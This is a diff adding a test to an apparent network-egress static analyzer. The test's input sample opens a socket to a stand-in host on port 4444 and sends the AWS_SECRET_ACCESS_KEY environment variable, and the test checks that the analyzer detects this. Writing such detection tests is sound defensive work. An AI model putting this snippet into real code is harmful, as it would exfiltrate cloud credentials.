@@ -30,3 +30,15 @@ def test_a_local_function_named_fetch_still_passes_its_arguments_on() -> None:
     [net] = [f for f in JavaScriptAnalyzer().analyze(SourceFile("b.js", code)).findings
              if f.kind is FindingKind.NETWORK]
     assert (net.api, net.line, net.data_sources) == ("https.get", 3, ("env HOME_URL",))
+
+
+def test_what_is_sent_on_a_socket_from_create_connection() -> None:
+    from egress.analyzers.python import PythonAnalyzer
+
+    code = (b"import os, socket\ndef go():\n    c = socket.create_connection(('198.51.100.7', 4444))\n"
+            b"    c.sendall(os.environ['AWS_SECRET_ACCESS_KEY'].encode())\n"
+            b"def quiet():\n    d = socket.create_connection(('198.51.100.8', 80))\n    d.close()\n")
+    got = [(f.api, f.line, tuple(x.text for x in f.destinations), f.data_sources)
+           for f in PythonAnalyzer().analyze(SourceFile("cc.py", code)).findings]
+    assert got == [("socket.create_connection", 3, ("198.51.100.7:4444",), ("env AWS_SECRET_ACCESS_KEY",)),
+                   ("socket.create_connection", 6, ("198.51.100.8:80",), ())]
